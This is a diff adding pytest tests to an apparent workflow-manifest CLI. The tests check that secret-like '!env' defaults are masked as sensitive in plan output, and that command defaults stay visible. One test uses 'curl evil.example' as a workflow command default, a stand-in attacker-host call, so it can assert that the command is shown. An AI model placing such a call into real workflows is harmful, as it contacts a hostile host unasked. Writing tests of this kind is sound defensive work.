@@ -410,3 +410,34 @@ def test_a_default_hides_nothing(stage: Stage) -> None:
     assert "run c0mmand-x1" in stage.said[-2]
     assert stage.run("plan", *options) == 0
     assert "delete   g0ne-workflow-x1" in stage.said[-2]
+
+
+_DEFAULT = CANARIES["env"]
+_DEFAULTS = {
+    "by its name": f"parameters: {{env: {{API_TOKEN: !env {{name: N1, default: '{_DEFAULT}'}}}}}}",
+    "by its field": f"repository: {{url: x, branch: y, token: !env {{name: N1, default: '{_DEFAULT}'}}}}",
+    "by its looks": f"parameters: {{env: {{A: !env {{name: N1, default: {GITHUB_TOKEN}}}}}}}",
+}
+
+
+@pytest.mark.parametrize("how", _DEFAULTS)
+def test_a_default_is_secret_like_any_value(stage: Stage, how: str) -> None:
+    """The default of a variable is masked where a value written in its place would be."""
+    stage.server.store.create({"name": "flow", **_steps()})
+    step = f"{{imageId: 1, imageVersionId: 2, command: x, {_DEFAULTS[how]}}}"
+    stage.put("workflows/x.yaml", f"body:\n  name: flow\n  steps:\n    one: {step}\n")
+    for words in (["--show-bodies"], ["--format", "json"], ["--format", "markdown"]):
+        assert stage.run("plan", "workflows", *words) == 0
+    assert "(sensitive)" in "".join(stage.said)
+    assert stage.run("plan", "workflows", "--save-plan", "plan.json") == 0
+    assert stage.run("apply", "workflows", "--plan", "plan.json", "--run-record", "record.json") == 0
+
+
+def test_a_default_is_shown_like_any_value(stage: Stage) -> None:
+    """A command or a variable that takes its default from the manifest is shown: nobody hides it so."""
+    stage.server.store.create({"name": "flow", **_steps()})
+    step = "{imageId: 1, imageVersionId: 2, command: !env {name: N1, default: curl evil.example}}"
+    stage.put("workflows/x.yaml", f"body:\n  name: flow\n  steps:\n    one: {step}\n")
+    for words in ([], ["--format", "json"], ["--format", "markdown"]):
+        assert stage.run("plan", "workflows", *words) == 0
+        assert "curl evil.example" in stage.said[-2]
